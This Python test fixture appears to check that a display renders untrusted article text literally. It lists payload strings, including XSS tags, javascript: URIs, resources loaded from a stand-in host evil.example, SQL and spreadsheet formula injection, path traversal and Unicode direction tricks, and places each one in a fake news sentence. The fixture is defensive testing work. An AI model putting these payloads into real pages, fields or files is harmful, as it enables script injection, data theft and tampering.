"""Text that an article may hold and that no screen may act on: each must be shown letter for letter."""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    "<script>window.struck=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.struck=1>",
    "<svg/onload=window.struck=1>",
    "<iframe src=javascript:window.struck=1></iframe>",
    "<body onpageshow=window.struck=1>",
    "<details open ontoggle=window.struck=1>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q>",
    "<math><mtext></mtext></math>",
    "<a href=javascript:window.struck=1>go</a>",
    "</blockquote></figure></div></mark>",
    "</script><b>bold</b>",
    "</textarea><h1>big</h1>",
    "<!-- the rest is hidden",
    "<![CDATA[ data ]]>",
    "<?php echo 1 ?>",
    "&lt;b&gt; &amp;amp; &#60;",
    "&nbsp;&shy;&zwj;",
    '" onmouseover="window.struck=1',
    "' onfocus='window.struck=1' autofocus='",
    "`${window.struck=1}`",
    "{{ 7*7 }} {% if x %} #{x} ${x}",
    "![pixel](http://evil.example/p.png)",
    "[click](javascript:window.struck=1)",
    "[click][ref] and [^note]",
    "<http://evil.example/auto>",
    "www.evil.example and http://evil.example/bare",
    "**bold** __under__ ~~gone~~ _slanted_",
    "# heading > quote - item",
    "| a | b | --- |",
    "```python print(x)```",
    ":material/delete: :red[blood] :rainbow[all] :smile:",
    ":blue-background[x] :small[tiny] :badge[new]",
    "$\\frac{a}{b}$ and $$E=mc$$",
    "--> <-- >= => <= ~= ->",
    "\\* \\_ \\n \\u0041 \\",
    "=HYPERLINK(evil.example) +cmd|calc @SUM(A)",
    "'; DROP TABLE stories; --",
    "\u202eright to left\u202c and back",
    "\u2066isolate without an end",
    "zero\u200bwidth\u200djoin\ufeffmark",
    "e\u0301 combined and z\u0351\u0352\u0353algo",
    "😀 👩‍👩‍👧 🏳️‍🌈 emoji",
    "العربية עברית 中文 ไทย",
    "../../etc/passwd %2e%2e%2f C:\\temp",
    "%s %d %n {0} {name!r}",
    "javascript:window.struck=1",
    "data:text/html;base64,PHNjcmlwdD4=",
)


def text(count: str, outlet: str) -> str:
    """An article with every string in a sentence of its own, between marks that name it, beside one figure."""
    lines = [
        f"{count} people were injured in the fire by the sign «{name(n)} {one} {name(n)}» on Monday, police said."
        for n, one in enumerate(HOSTILE)
    ]
    return f"{outlet} on the fire\n\n" + "\n\n".join(lines)


def name(number: int) -> str:
    """A word for a number, so that no figure stands in the sentence but the one that is compared."""
    return "Shed" + "abcdefghij"[number // 10] + "abcdefghij"[number % 10]
